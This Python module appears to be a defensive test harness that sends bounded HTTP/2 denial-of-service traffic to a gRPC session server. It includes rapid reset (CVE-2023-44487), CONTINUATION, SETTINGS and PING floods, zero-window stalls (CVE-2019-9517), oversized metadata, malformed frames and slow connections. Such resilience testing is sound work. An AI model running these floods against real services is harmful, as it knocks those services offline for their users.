"""Attackers: each sends what it sends over real sockets, bounded in count and in time, and then hangs up.

None of them needs credentials, and none of them reads more than it must.
"""

from __future__ import annotations

import os
import random
import selectors
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import ExitStack, closing, suppress
from dataclasses import dataclass

from sessiond_stubs.v1 import session_authority_pb2 as pb
from tests.hostile import frames

__all__ = ["ATTACKS", "SLOW", "Attack", "Wire", "closed_after", "connections"]

RESETS = 20_000
SIZES = {15_000: 200, 200_000: 200, 5_000_000: 40}
"""Bytes of metadata, and the number of calls that have them."""
LONGEST = 20.0
"""Seconds that an attack may take. A server that stops reading ends it earlier."""
_STUCK = 1.0
"""Seconds after which a server that reads nothing more has stopped the attack."""
_DRIP = 0.5
"""Seconds between two bytes of a slow connection: the shortest handshake, of 33 bytes, then takes 16."""
_HEALTH = "/grpc.health.v1.Health/"
_GONE = (ConnectionError, ssl.SSLError, TimeoutError, OSError)


@dataclass(frozen=True)
class Wire:
    """How to reach the server: its address, and TLS or None."""

    host: str
    port: int
    tls: ssl.SSLContext | None = None

    def raw(self) -> socket.socket:
        """Open a TCP connection, without TLS."""
        return socket.create_connection((self.host, self.port), timeout=5)

    def connect(self) -> socket.socket:
        """Open a connection, with TLS if the server has it."""
        opened = self.raw()
        return opened if self.tls is None else self.tls.wrap_socket(opened, server_hostname="localhost")


@dataclass(frozen=True)
class Attack:
    """One kind of hostile traffic. `over_tls`: whether it is also run inside of TLS."""

    what: str
    run: Callable[[Wire], None]
    over_tls: bool = True


def pour(opened: socket.socket, chunks: Iterable[bytes]) -> int:
    """Send until the server hangs up, reads no more, or time is over. Read nothing. Return the bytes sent."""
    end, sent = time.monotonic() + LONGEST, 0
    opened.settimeout(_STUCK)
    with suppress(*_GONE):
        for chunk in chunks:
            opened.sendall(chunk)
            sent += len(chunk)
            if time.monotonic() > end:
                break
    return sent


def _one_connection(wire: Wire, chunks: Iterable[bytes]) -> None:
    with suppress(*_GONE), closing(wire.connect()) as opened:
        pour(opened, chunks)


def _streams(count: int, first: int = 1) -> Iterator[int]:
    return iter(range(first, first + 2 * count, 2))


def rapid_reset(wire: Wire) -> None:
    """Begin and reset 20,000 calls, on as many connections as the server makes necessary (CVE-2023-44487)."""
    call = frames.CALL("ValidateSession")
    end, left = time.monotonic() + LONGEST, RESETS
    while left > 0 and time.monotonic() < end:
        burst = [frames.headers(stream, call) + frames.reset(stream) for stream in _streams(200)]
        with suppress(*_GONE), closing(wire.connect()) as opened:
            opened.settimeout(_STUCK)
            opened.sendall(frames.start())
            number = 0
            while left > 0 and time.monotonic() < end:
                opened.sendall(b"".join(burst))
                left -= len(burst)
                number += 1
                begin = 1 + 400 * number
                burst = [frames.headers(one, call) + frames.reset(one) for one in _streams(200, begin)]
            continue
        left -= len(burst)


def endless_headers(wire: Wire) -> None:
    """Send 64 MB of one call's headers, in 4,096 frames that never end them."""
    filler = frames.block({"x-filler": "x" * 16_000})
    chunks = (frames.continuation(1, filler) for _ in range(4_096))
    _one_connection(wire, [frames.start(), frames.headers(1, frames.CALL("ValidateSession"), 0), *chunks])


def empty_continuations(wire: Wire) -> None:
    """Continue a call's headers 500,000 times with nothing."""
    many = frames.continuation(1, b"") * 1_000
    _one_connection(
        wire, [frames.start(), frames.headers(1, frames.CALL("ValidateSession"), 0), *(many for _ in range(500))]
    )


def settings_flood(wire: Wire) -> None:
    """Send 500,000 frames of settings, and read none of the acknowledgements."""
    _one_connection(wire, [frames.start(), *(frames.settings() * 1_000 for _ in range(500))])


def ping_flood(wire: Wire) -> None:
    """Send 500,000 pings, and read none of the answers."""
    _one_connection(wire, [frames.start(), *(frames.ping(number) * 1_000 for number in range(500))])


def empty_data(wire: Wire) -> None:
    """Send 500,000 frames of data without any data on an open call."""
    begin = frames.start() + frames.headers(1, frames.CALL("ValidateSession"))
    _one_connection(wire, [begin, *(frames.data(1) * 1_000 for _ in range(500))])


def large_metadata(wire: Wire) -> None:
    """Make 200 calls with 15 KB of metadata each, 200 with 200 KB, and 40 with 5 MB."""
    for size, count in SIZES.items():
        filler = frames.block({"x-filler": "x" * size})
        whole = frames.CALL("ValidateSession") + filler

        def calls(whole: bytes = whole, count: int = count) -> Iterator[bytes]:
            yield frames.start()
            for stream in _streams(count):
                parts = [whole[at : at + 16_384] for at in range(0, len(whole), 16_384)]
                yield frames.headers(stream, parts[0], frames.END_HEADERS if len(parts) == 1 else 0)
                for number, part in enumerate(parts[1:], 2):
                    yield frames.continuation(stream, part, frames.END_HEADERS if number == len(parts) else 0)

        _one_connection(wire, calls())


def large_messages(wire: Wire) -> None:
    """Announce a message of 4 GB in each of 200 calls, and send 64 KB of it, as the window allows."""
    call, announced = frames.CALL("ValidateSession"), b"\0" + (2**32 - 1).to_bytes(4, "big")
    body = announced + b"x" * 16_000

    def calls() -> Iterator[bytes]:
        yield frames.start()
        for stream in _streams(200):
            yield frames.headers(stream, call) + frames.data(stream, body) + frames.data(stream, b"x" * 16_000) * 3

    _one_connection(wire, calls())


def garbage(wire: Wire) -> None:
    """Send 300 times up to 64 KB of random bytes: alone, after the preface, and as frames of random kinds."""
    choose = random.Random(7)
    for number in range(300):
        noise = choose.randbytes(choose.randrange(1, 65_536))
        if number % 3 == 1:
            noise = frames.start() + noise
        elif number % 3 == 2:
            parts = (choose.randbytes(choose.randrange(200)) for _ in range(100))
            noise = frames.start() + b"".join(
                frames.frame(choose.randrange(256), choose.randrange(256), choose.randrange(5), part) for part in parts
            )
        _one_connection(wire, [noise])


def malformed_messages(wire: Wire) -> None:
    """Make 1,000 calls whose message is random bytes, compressed without a codec, or shorter than it says."""
    choose = random.Random(8)
    methods = ["ValidateSession", "CreateSession", "Subscribe", "Follow", "StreamValidations", "ListSessions"]
    bodies = [
        lambda: frames.message(choose.randbytes(choose.randrange(2_000))),
        lambda: b"\1" + frames.message(choose.randbytes(100))[1:],
        lambda: frames.message(b"x" * 500)[:-10],
        lambda: choose.randbytes(50),
    ]

    def calls() -> Iterator[bytes]:
        yield frames.start()
        for stream in _streams(1_000):
            begin = frames.headers(stream, frames.CALL(choose.choice(methods)))
            yield begin + frames.data(stream, choose.choice(bodies)(), frames.END_STREAM)

    _one_connection(wire, calls())


def unread_answers(wire: Wire) -> None:
    """Ask 1,400 times for the authority's description, and let the server send nothing (CVE-2019-9517)."""
    body = frames.message(pb.GetAuthorityRequest().SerializeToString())

    def calls() -> Iterator[bytes]:
        yield frames.start(window=0)
        for stream in _streams(1_400):
            begin = frames.headers(stream, frames.CALL("GetAuthority"))
            yield begin + frames.data(stream, body, frames.END_STREAM)

    with suppress(*_GONE), closing(wire.connect()) as opened:
        pour(opened, calls())
        opened.settimeout(_STUCK)
        while opened.recv(65_536):
            pass


def watched_health(wire: Wire) -> None:
    """Watch the health of 1,400 services that do not exist, with names of 4 KB, on each of three connections."""

    def calls() -> Iterator[bytes]:
        yield frames.start()
        for stream in _streams(1_400):
            name = f"{stream:08}" + "x" * 4_000
            raw = b"\x0a" + bytes([len(name) & 127 | 128, len(name) >> 7]) + name.encode()
            yield frames.headers(stream, frames.CALL(_HEALTH + "Watch")) + frames.data(
                stream, frames.message(raw), frames.END_STREAM
            )

    with ExitStack() as stack, suppress(*_GONE):
        for _ in range(3):
            pour(stack.enter_context(closing(wire.connect())), calls())


def half_open(wire: Wire) -> None:
    """Begin a call on 500 connections, and end half of them by FIN, with the call open, and half by RST."""
    with ExitStack() as stack:
        for number in range(500):
            with suppress(*_GONE):
                opened = stack.enter_context(closing(wire.connect()))
                opened.sendall(frames.start() + frames.headers(1, frames.CALL("ValidateSession")))
                if number % 2:
                    opened.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                elif wire.tls is None:
                    opened.shutdown(socket.SHUT_WR)


def idle(wire: Wire) -> None:
    """Open 500 connections that do nothing more, and close them."""
    with connections(wire, 500, frames.start()):
        pass


def aborted_handshakes(wire: Wire) -> None:
    """Break off 500 TLS handshakes in their middle, and send 200 times plain HTTP/2 or random bytes instead."""
    hello = client_hello()
    for number in range(700):
        with suppress(*_GONE), closing(wire.raw()) as opened:
            opened.sendall([hello, hello, hello, hello, hello, frames.start(), os.urandom(500)][number % 7])


def client_hello() -> bytes:
    """Return the first message of a TLS handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()


class connections(ExitStack):  # noqa: N801 - a context manager, used like a function
    """Hold connections open for a block, each after it has sent the same first bytes, without TLS."""

    def __init__(self, wire: Wire, count: int, first: bytes) -> None:
        super().__init__()
        self.opened: list[socket.socket] = []
        for _ in range(count):
            with suppress(*_GONE):
                one = self.enter_context(closing(wire.raw()))
                one.sendall(first)
                self.opened.append(one)


def closed_after(held: connections, drip: bytes, within: float) -> float:
    """Send one byte every half second on each connection, until the server has closed all of them.

    Return the seconds that this took. Raise AssertionError if some are open after `within` seconds.
    """
    begun, sent = time.monotonic(), 0
    with selectors.DefaultSelector() as selector:
        for one in held.opened:
            one.setblocking(False)
            selector.register(one, selectors.EVENT_READ)
        while selector.get_map():
            assert time.monotonic() - begun < within, f"{len(selector.get_map())} connections are still open"
            for key, _ in selector.select(0.25):
                opened = key.fileobj
                assert isinstance(opened, socket.socket)
                try:
                    ended = not opened.recv(65_536)
                except BlockingIOError:
                    ended = False
                except OSError:
                    ended = True
                if ended:
                    selector.unregister(opened)
            if time.monotonic() - begun < sent * _DRIP:
                continue
            for key in list(selector.get_map().values()):
                assert isinstance(key.fileobj, socket.socket)
                with suppress(OSError):
                    key.fileobj.send(drip[sent : sent + 1])
            sent += 1
    return time.monotonic() - begun


ATTACKS = {
    "rapid reset": Attack("20,000 calls that are begun and reset", rapid_reset),
    "endless headers": Attack("64 MB of headers that never end", endless_headers),
    "empty continuations": Attack("500,000 frames that continue headers with nothing", empty_continuations),
    "settings": Attack("500,000 frames of settings, answers not read", settings_flood),
    "pings": Attack("500,000 pings, answers not read", ping_flood),
    "empty data": Attack("500,000 empty frames of data on one call", empty_data),
    "large metadata": Attack("440 calls with 15 KB to 5 MB of metadata", large_metadata),
    "large messages": Attack("200 calls that announce messages of 4 GB", large_messages),
    "garbage": Attack("300 times random bytes, bare and as frames", garbage),
    "malformed messages": Attack("1,000 calls with malformed messages", malformed_messages),
    "unread answers": Attack("1,400 calls on a connection that lets nothing through", unread_answers),
    "watched health": Attack("4,200 streams of health checks without credentials", watched_health),
    "half-open": Attack("500 connections that are dropped during a call", half_open),
    "idle": Attack("500 idle connections", idle, over_tls=False),
}
SLOW = {
    "silent": (b"", b""),
    "slow preface": (b"", frames.start()),
    "half of a preface": (frames.PREFACE[:10], b""),
    "no settings": (frames.PREFACE, b""),
}
"""What slow connections send at once, and then byte by byte."""
